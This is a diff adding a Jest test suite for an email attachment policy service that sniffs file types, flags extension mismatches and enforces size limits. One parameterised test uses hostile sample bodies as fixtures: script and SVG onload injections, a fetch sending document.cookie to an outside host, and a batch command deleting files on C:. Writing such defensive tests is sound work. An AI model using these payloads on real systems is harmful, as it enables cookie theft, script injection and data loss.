@@ -0,0 +1,144 @@
+import { AttachmentsConfig } from '../config/attachments.config';
+import { SendEmailDto } from '../email/dto/send-email.dto';
+import { AttachmentPolicyService } from './attachment-policy.service';
+
+const PDF = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
+const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+const EXE = Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00]);
+
+const toBase64 = (content: Buffer) => content.toString('base64');
+
+function createDto(
+  attachments: { filename: string; content: Buffer }[],
+  source = 'Testing',
+): SendEmailDto {
+  return {
+    txnRefNo: 'Email-1',
+    source,
+    payload: { from: 'a@example.com', subject: 'Hi', to: 'b@example.com' },
+    additionalInfo: {
+      template_id: 1,
+      isText: false,
+      attachment_files: attachments.map(({ filename, content }) => ({
+        filename,
+        base64: `data:application/pdf;base64,${toBase64(content)}`,
+      })),
+    },
+  };
+}
+
+describe('AttachmentPolicyService', () => {
+  const service = new AttachmentPolicyService({
+    defaults: {
+      maxFiles: 3,
+      maxFileBytes: 1024,
+      maxTotalBytes: 2048,
+      allowedTypes: ['application/pdf', 'image/png'],
+    },
+    sources: {
+      'PDF-only': { allowedTypes: ['application/pdf'] },
+      Text: { allowedTypes: ['text/plain'] },
+    },
+  } as AttachmentsConfig);
+
+  it('accepts files whose content matches an allowed type', () => {
+    expect(
+      service.check(
+        createDto([
+          { filename: 'statement.pdf', content: PDF },
+          { filename: 'chart.png', content: PNG },
+        ]),
+      ),
+    ).toEqual([]);
+  });
+
+  it('sniffs the real type instead of trusting the declared one', () => {
+    expect(
+      service.check(createDto([{ filename: 'invoice.pdf', content: EXE }])),
+    ).toEqual([
+      expect.objectContaining({
+        field: 'additionalInfo.attachment_files[0]',
+        code: 'TYPE_NOT_ALLOWED',
+      }),
+    ]);
+  });
+
+  it('flags files whose extension disagrees with their content', () => {
+    expect(
+      service.check(createDto([{ filename: 'chart.pdf', content: PNG }])),
+    ).toEqual([expect.objectContaining({ code: 'EXTENSION_MISMATCH' })]);
+  });
+
+  it.each([
+    ['invoice.html', '<html><body><script>alert(1)</script></body></html>'],
+    ['logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
+    ['payload.js', 'fetch("https://example.com/" + document.cookie);'],
+    ['run.bat', 'del /q C:\\*'],
+  ])('refuses %s, whose text body sniffs as text/plain', (filename, body) => {
+    expect(
+      service.check(
+        createDto([{ filename, content: Buffer.from(body) }], 'Text'),
+      ),
+    ).toEqual([
+      expect.objectContaining({
+        filename,
+        code: 'EXTENSION_MISMATCH',
+        message: `${filename} contains text/plain but its extension is not one for that type`,
+      }),
+    ]);
+  });
+
+  it('accepts text files named as text', () => {
+    expect(
+      service.check(
+        createDto(
+          [{ filename: 'report.csv', content: Buffer.from('a,b\n1,2\n') }],
+          'Text',
+        ),
+      ),
+    ).toEqual([]);
+  });
+
+  it('applies per-source type lists', () => {
+    expect(
+      service.check(
+        createDto([{ filename: 'chart.png', content: PNG }], 'PDF-only'),
+      ),
+    ).toEqual([expect.objectContaining({ code: 'TYPE_NOT_ALLOWED' })]);
+  });
+
+  it('rejects data URLs with malformed percent-encoding', () => {
+    const dto = createDto([]);
+    dto.additionalInfo.attachment_files = [
+      { filename: 'notes.txt', base64: 'data:text/plain,%E0%A4%A' },
+    ];
+
+    expect(service.check(dto)).toEqual([
+      {
+        field: 'additionalInfo.attachment_files[0]',
+        filename: 'notes.txt',
+        code: 'INVALID_ENCODING',
+        message: 'notes.txt is a data URL with malformed percent-encoding',
+      },
+    ]);
+  });
+
+  it('enforces per-file and total size limits', () => {
+    const large = Buffer.concat([PDF, Buffer.alloc(1000, 0x20)]);
+
+    expect(
+      service
+        .check(
+          createDto([
+            { filename: 'a.pdf', content: large },
+            { filename: 'b.pdf', content: large },
+            { filename: 'c.pdf', content: Buffer.alloc(2000) },
+          ]),
+        )
+        .map(({ field, code }) => ({ field, code })),
+    ).toEqual([
+      { field: 'additionalInfo.attachment_files[2]', code: 'FILE_TOO_LARGE' },
+      { field: 'additionalInfo', code: 'TOTAL_TOO_LARGE' },
+    ]);
+  });
+});